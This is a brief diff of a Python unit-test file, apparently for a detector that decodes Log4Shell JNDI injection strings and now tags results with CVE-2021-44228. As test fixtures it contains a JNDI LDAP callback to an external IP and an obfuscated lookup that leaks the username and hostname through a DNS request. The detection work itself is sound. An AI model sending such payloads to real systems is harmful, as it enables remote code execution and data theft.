@@ -41,7 +41,7 @@ class Answers(unittest.TestCase):
             "id": "p-1", "detected": True, "class": "attack", "reaches_network": True,
             "lookups": ["jndi:ldap://203.0.113.9:1389/a"],
             "callbacks": ["ldap://203.0.113.9:1389/a"], "variables": [], "encodings": [],
-            "tricks": [], "depth": 1}])
+            "tricks": [], "cves": ["CVE-2021-44228"], "depth": 1}])
 
     def test_says_what_was_peeled_and_what_would_leak(self):
         got = answer("%24{${lower:J}ndi:dns://${env:USER}.x.example/${hostName}}")
